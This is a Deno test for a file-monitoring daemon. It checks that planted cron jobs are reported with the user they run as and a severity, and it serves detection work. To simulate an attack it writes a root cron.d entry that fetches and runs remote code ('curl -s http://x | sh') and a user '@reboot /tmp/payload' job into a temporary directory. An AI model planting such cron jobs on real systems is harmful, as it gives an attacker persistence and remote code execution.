/**
 * Cron by meaning, as an attacker plants a job: a file dropped into a
 * watched cron.d (root's job: critical), a user's own crontab written by
 * that user (nobody, through setpriv), and a cron.d file cron skips (a name
 * with a dot), which stays a plain file.
 */
import { assert, assertEquals } from "./assert.ts";
import { run, tempDir, waitFor } from "./helpers.ts";
import { Daemon } from "./daemon.ts";
import type { ChangeEvent } from "../src/pipeline/change_event.ts";

Deno.test("a planted cron job is reported with whom it runs as", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc/cron.d`, { recursive: true });
  await Deno.mkdir(`${x}/spool/crontabs`, { recursive: true });
  await Deno.chown(`${x}/spool/crontabs`, 65534, 65534);
  const config = `${x}/config.yaml`;
  await Deno.writeTextFile(
    config,
    `watches:\n  - path: ${x}/etc/cron.d\n  - path: ${x}/spool/crontabs\n` +
      `database: ${x}/state/db.sqlite\nkey_file: ${x}/state/hmac.key\nlog_level: info\n` +
      `outputs:\n  - type: stdout\n    format: json\n`,
  );
  const d = new Daemon(config);
  const find = (pred: (e: ChangeEvent) => boolean, what: string) =>
    waitFor(() => d.changes().some(pred), 10_000).then((ok) => {
      assert(ok, `${what} not reported; got ${d.changes().map((e) => e.message).join("\n")}`);
      return d.changes().find(pred)!;
    });
  try {
    await d.started();
    const sh = await run([
      "sh",
      "-c",
      `echo '* * * * * root curl -s http://x | sh' > ${x}/etc/cron.d/zz`,
    ]);
    assertEquals(sh.code, 0, sh.stderr);
    const root = await find((e) => e.event.action === "cron_job_added", "root's job");
    assertEquals(root.message, "cron job added for root: * * * * * curl -s http://x | sh");
    assertEquals(root.bpfink?.severity, "critical");
    assertEquals(root.process?.name, "sh");

    const mine = await run([
      "setpriv",
      "--reuid",
      "nobody",
      "--regid",
      "nogroup",
      "--clear-groups",
      "sh",
      "-c",
      `echo '@reboot /tmp/payload' > ${x}/spool/crontabs/nobody`,
    ]);
    assertEquals(mine.code, 0, mine.stderr);
    const user = await find(
      (e) => e.event.action === "cron_job_added" && e.user?.target?.name === "nobody",
      "nobody's job",
    );
    assertEquals(user.message, "cron job added for nobody: @reboot /tmp/payload");
    assertEquals(user.bpfink?.severity, "high");

    // cron skips a cron.d name with a dot: reported as a file, not as jobs.
    await Deno.writeTextFile(`${x}/etc/cron.d/zz.dpkg-old`, "* * * * * root /bin/true\n");
    const old = await find(
      (e) => e.file?.path === `${x}/etc/cron.d/zz.dpkg-old`,
      "the skipped file",
    );
    assertEquals(old.event.action, "created");
    await new Promise((r) => setTimeout(r, 500));
    assertEquals(d.changes().filter((e) => e.event.action === "cron_job_added").length, 2);
  } finally {
    await d.stop();
  }
});
